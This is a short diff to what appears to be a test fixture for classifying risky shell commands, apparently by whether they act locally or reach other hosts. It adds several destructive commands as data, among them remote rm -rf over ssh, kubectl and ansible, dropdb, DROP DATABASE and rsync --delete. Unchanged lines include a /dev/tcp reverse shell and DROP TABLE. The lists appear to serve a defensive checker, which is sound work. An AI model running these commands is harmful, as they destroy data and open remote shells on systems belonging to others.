@@ -22,6 +22,8 @@ git reset --hard
 psql -c 'DROP TABLE x'
 $X y
 eval "$X"
+rsync -a --delete ./ /srv/www/
+su - postgres -c 'dropdb app'
 """.strip().splitlines()
 
 LEAVING = """
@@ -32,6 +34,12 @@ npm unpublish x
 curl -X DELETE https://x.example/users/1
 bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
 psql -h db.example -c 'DROP TABLE x'
+ssh root@host rm -rf /srv
+timeout 60 ssh host 'git reset --hard'
+ssh host "psql -c 'DROP DATABASE x'"
+kubectl exec db-0 -- rm -rf /data
+ansible all -m shell -a 'rm -rf /srv'
+rsync -a --delete ./ host:/srv/www/
 """.strip().splitlines()
 
 ITS_OWN = [
